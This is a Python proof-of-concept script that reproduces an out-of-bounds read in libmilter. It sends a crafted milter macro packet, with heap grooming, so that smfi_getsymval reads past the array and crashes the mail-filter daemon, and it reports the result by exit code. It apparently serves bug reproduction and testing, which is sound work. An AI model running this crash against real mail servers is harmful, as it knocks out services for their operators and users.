#!/usr/bin/env python3
# libmilter_macro_crash.py - the reproduction of libmilter's out-of-bounds read (Debian 8.17.1.9):
# one macro packet whose last name has no value; the next smfi_getsymval of a name the packet does
# not hold steps past the array's NULL and strcmp()s whatever lies beyond: SIGSEGV, the whole
# daemon gone. Usage: libmilter_macro_crash.py unix:/path | inet:PORT@HOST. Prints what happened;
# exit 0: the daemon answered, 2: the socket refused us (EACCES: the intended protection),
# 1: the daemon dropped the connection (it crashed).
# Must not: be run against a production daemon (it takes it down); no MTA sends such a packet.
import socket
import struct
import sys


def connect(spec):
    if spec.startswith(("unix:", "local:")):
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        s.settimeout(10)
        s.connect(spec.split(":", 1)[1])
    else:
        port, host = spec.split(":", 1)[1].split("@")
        s = socket.create_connection((host, int(port)), timeout=10)
    return s


def main():
    try:
        s = connect(sys.argv[1])
    except PermissionError as e:
        print("refused: %s" % e.strerror)
        return 2

    def send(cmd, data=b""):
        s.sendall(struct.pack(">I", len(data) + 1) + cmd + data)

    def read():
        head = s.recv(4, socket.MSG_WAITALL)
        if len(head) < 4:
            raise EOFError("the milter closed the connection")
        body = s.recv(struct.unpack(">I", head)[0], socket.MSG_WAITALL)
        return body[:1], body[1:]

    send(b"O", struct.pack(">III", 6, 0x1FF, 0x1FFFFF))
    read()
    # Heap grooming, so the word past the array is not zero: a freed 136-byte packet buffer of
    # text is what libmilter's dec_argv() then carves the 16-pointer array from (glibc tcache).
    send(b"D", b"C" + b"k\0" + b"A" * 131 + b"\0")
    send(b"D", b"C" + b"a\0b\0")
    # Seven name/value pairs and a last name without a value: 15 strings, dec_argv() allocates
    # 15 + 1 pointers; smfi_getsymval() compares names at 0, 2, ... 14, then reads entry 16.
    macros = [b"j", b"mx.example.net", b"{daemon_name}", b"mx", b"{daemon_addr}", b"127.0.0.1",
              b"{client_name}", b"client.example.net", b"{client_ptr}", b"client.example.net",
              b"v", b"Postfix 3.7.11", b"_", b"client.example.net [192.0.2.1]", b"{daemon_port}"]
    send(b"D", b"C" + b"\0".join(macros) + b"\0")
    # The connect step: mxguard asks for {client_addr}, which the packet does not hold.
    send(b"C", b"client.example.net\0" + b"4" + struct.pack(">H", 4321) + b"192.0.2.1\0")
    try:
        cmd, _ = read()
    except (EOFError, OSError) as e:
        print("no answer to connect (%s): the daemon crashed" % e)
        return 1
    print("answered %r: the daemon survived" % cmd)
    return 0


if __name__ == "__main__":
    sys.exit(main())
